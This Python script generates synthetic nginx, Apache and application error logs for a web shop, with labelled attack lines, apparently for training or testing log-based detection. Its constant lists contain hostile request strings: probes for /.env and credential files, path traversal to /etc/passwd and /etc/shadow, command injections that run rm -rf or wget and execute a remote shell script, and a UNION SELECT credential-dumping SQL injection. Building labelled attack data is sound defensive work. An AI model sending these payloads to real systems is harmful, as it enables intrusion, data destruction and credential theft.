#!/usr/bin/env python3
"""Writes a realistic web-server error log or Python application log with labelled attacks.

One day of a shop's servers, in the layout of the chosen program:

  --format nginx     nginx's error.log: missing favicons and robots, upstream timeouts,
                     client aborts, SSL handshake noise
  --format apache    Apache 2.4's error_log: the same day as httpd writes it
  --format python    the shop's Python app (logging's `asctime - name - LEVEL - message`):
                     orders, payments, cache misses
  --format generic   the same app logging ISO 8601 times, `LEVEL component: message`

and, mixed in (nginx and Apache: the requests that hit errors; Python: what the app saw):

  sensitive_file_probe   scanners asking for /.env, /.git/config, backups
  path_traversal         ../ sequences after /etc/passwd
  command_injection      shell commands in a CGI query
  sql_injection          (python) a UNION SELECT that broke a query
  error_burst            (python) a payment provider outage: a burst of errors

With --labels FILE, writes `line,client,kind` for every attack line. Deterministic.

    python3 scripts/generate_error_logs.py --format nginx --labels example_logs/nginx_error.labels.csv > example_logs/nginx_error.log
"""

import argparse
import datetime as dt
import random

START = dt.datetime(2024, 3, 11, 0, 0, 0)
CUSTOMERS = [f"198.51.100.{i}" for i in range(2, 120)]
PROBES = [
    "/.env", "/.git/config", "/wp-config.php.bak", "/.aws/credentials", "/backup.sql",
    "/config.php~", "/.DS_Store", "/server-status", "/.htpasswd", "/phpinfo.php",
]
TRAVERSALS = [
    "/static/../../../../etc/passwd", "/download?file=../../../../etc/shadow",
    "/images/..%2f..%2f..%2fetc/passwd", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
]
INJECTIONS = [
    "/cgi-bin/popen.cgi?command=rm%20-rf%20%2A%3B%20cd%20%2Ftmp%3B%20wget%20http%3A%2F%2F192.0.2.183%2Fbot.sh",
    "/cgi-bin/ping.cgi?host=127.0.0.1;cat%20/etc/passwd",
    "/shell?cd+/tmp;wget+http://192.0.2.183/x.sh;sh+x.sh",
]


class Log:
    def __init__(self):
        self.entries = []

    def add(self, t, text, client=None, kind=None):
        self.entries.append((t, text, client, kind))


def nginx(t, level, message, client=None, request=None, conn=None):
    stamp = t.strftime("%Y/%m/%d %H:%M:%S")
    conn = f"*{conn} " if conn else ""
    trailer = ""
    if client:
        trailer = f", client: {client}, server: shop.example"
        if request:
            trailer += f', request: "{request}", host: "shop.example"'
    return f"{stamp} [{level}] 1187#1187: {conn}{message}{trailer}"


def apache(t, module, level, message, client=None):
    stamp = t.strftime("%a %b %d %H:%M:%S.") + f"{t.microsecond:06d} " + t.strftime("%Y")
    who = f" [client {client}:{40000 + (sum(client.encode()) * 97 % 20000)}]" if client else ""
    return f"[{stamp}] [{module}:{level}] [pid 2113:tid 140245]{who} {message}"


def web_day(rng, program):
    log = Log()
    conn = 1000
    for minute in range(24 * 60):
        t0 = START + dt.timedelta(minutes=minute)
        busy = 3 if 8 <= t0.hour < 22 else 1
        for _ in range(rng.randint(0, busy)):
            t = t0 + dt.timedelta(seconds=rng.uniform(0, 60))
            client = rng.choice(CUSTOMERS)
            conn += 1
            pick = rng.random()
            if program == "nginx":
                if pick < 0.4:
                    text = nginx(t, "error", 'open() "/var/www/shop/favicon.ico" failed (2: No such file or directory)',
                                 client, "GET /favicon.ico HTTP/1.1", conn)
                elif pick < 0.6:
                    text = nginx(t, "warn", "an upstream response is buffered to a temporary file /var/cache/nginx/proxy_temp/1/00/0000000001 while reading upstream",
                                 client, "GET /catalog/export.csv HTTP/2.0", conn)
                elif pick < 0.8:
                    text = nginx(t, "info", "client closed connection while waiting for request", client, None, conn)
                elif pick < 0.95:
                    text = nginx(t, "error", "upstream timed out (110: Connection timed out) while reading response header from upstream",
                                 client, f"GET /product/{rng.randint(1, 900)} HTTP/1.1", conn)
                else:
                    text = nginx(t, "crit", "SSL_do_handshake() failed (SSL: error:0A00006C:SSL routines::bad key share) while SSL handshaking",
                                 client, None, conn)
            else:
                if pick < 0.4:
                    text = apache(t, "core", "info", "AH00128: File does not exist: /var/www/shop/favicon.ico", client)
                elif pick < 0.6:
                    text = apache(t, "ssl", "info", "AH01964: Connection to child 12 established (server shop.example:443)", client)
                elif pick < 0.8:
                    text = apache(t, "proxy_http", "error", "(70007)The timeout specified has expired: AH01102: error reading status line from remote server 127.0.0.1:8000", client)
                elif pick < 0.95:
                    text = apache(t, "core", "info", "AH00128: File does not exist: /var/www/shop/robots.txt", client)
                else:
                    text = apache(t, "mpm_event", "notice", "AH00489: Apache/2.4.58 (Unix) configured -- resuming normal operations")
            log.add(t, text)
    attacks = [
        ("203.0.113.9", "sensitive_file_probe", PROBES, dt.timedelta(hours=3, minutes=12)),
        ("203.0.113.55", "path_traversal", TRAVERSALS, dt.timedelta(hours=11, minutes=40)),
        ("192.0.2.77", "command_injection", INJECTIONS, dt.timedelta(hours=19, minutes=5)),
    ]
    for client, kind, paths, offset in attacks:
        for round_ in range(3):
            for i, path in enumerate(paths):
                t = START + offset + dt.timedelta(seconds=round_ * 40 + i * 2 + rng.random())
                conn += 1
                if program == "nginx":
                    file = path.split("?")[0]
                    text = nginx(t, "error", f'open() "/var/www/shop{file}" failed (2: No such file or directory)',
                                 client, f"GET {path} HTTP/1.1", conn)
                else:
                    message = {
                        "sensitive_file_probe": f"AH01630: client denied by server configuration: /var/www/shop{path}",
                        "path_traversal": f"AH10244: invalid URI path ({path})",
                        "command_injection": f"AH00126: Invalid URI in request GET {path} HTTP/1.1",
                    }[kind]
                    text = apache(t, "authz_core" if kind == "sensitive_file_probe" else "core", "error", message, client)
                log.add(t, text, client, kind)
    return log


def python_day(rng, style="python"):
    log = Log()

    def line(t, name, level, message, client=None, kind=None):
        if style == "generic":
            stamp = t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond // 1000:03d}Z"
            log.add(t, f"{stamp} {level} {name}: {message}", client, kind)
            return
        stamp = t.strftime("%Y-%m-%d %H:%M:%S,") + f"{t.microsecond // 1000:03d}"
        log.add(t, f"{stamp} - {name} - {level} - {message}", client, kind)

    for minute in range(24 * 60):
        t0 = START + dt.timedelta(minutes=minute)
        for _ in range(rng.randint(1, 4)):
            t = t0 + dt.timedelta(seconds=rng.uniform(0, 60))
            pick = rng.random()
            order = rng.randint(10000, 99999)
            if pick < 0.45:
                line(t, "shop.orders", "INFO", f"order {order} placed by customer {rng.randint(1, 5000)}: {rng.randint(1, 6)} items")
            elif pick < 0.75:
                line(t, "shop.payments", "INFO", f"payment for order {order} captured in {rng.randint(80, 900)} ms")
            elif pick < 0.95:
                line(t, "shop.cache", "DEBUG", f"cache miss for product:{rng.randint(1, 900)}")
            else:
                line(t, "shop.payments", "WARNING", f"card declined for order {order} (insufficient funds)")
    outage = START + dt.timedelta(hours=14, minutes=3)
    for i in range(120):
        t = outage + dt.timedelta(seconds=i * 2.5)
        line(t, "shop.payments", "ERROR", f"payment provider returned 503 for order {rng.randint(10000, 99999)}",
             "-", "error_burst")
    attack = START + dt.timedelta(hours=2, minutes=47)
    for i in range(12):
        t = attack + dt.timedelta(seconds=i * 3)
        line(t, "shop.search", "ERROR",
             f"query failed for q=\"shoes' UNION SELECT username,password FROM users--\" from 203.0.113.66 (syntax error at or near \"UNION\")",
             "203.0.113.66", "sql_injection")
    return log


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--format", choices=["nginx", "apache", "python", "generic"], required=True)
    parser.add_argument("--labels", help="write line,client,kind for each attack line here")
    parser.add_argument("--seed", type=int, default=11)
    args = parser.parse_args()
    rng = random.Random(args.seed)
    if args.format in ("python", "generic"):
        log = python_day(rng, args.format)
    else:
        log = web_day(rng, args.format)
    log.entries.sort(key=lambda e: e[0])
    labels = []
    for number, (_, text, client, kind) in enumerate(log.entries, start=1):
        print(text)
        if kind:
            labels.append(f"{number},{client},{kind}")
    if args.labels:
        with open(args.labels, "w") as out:
            out.write("line,client,kind\n" + "".join(row + "\n" for row in labels))


if __name__ == "__main__":
    main()
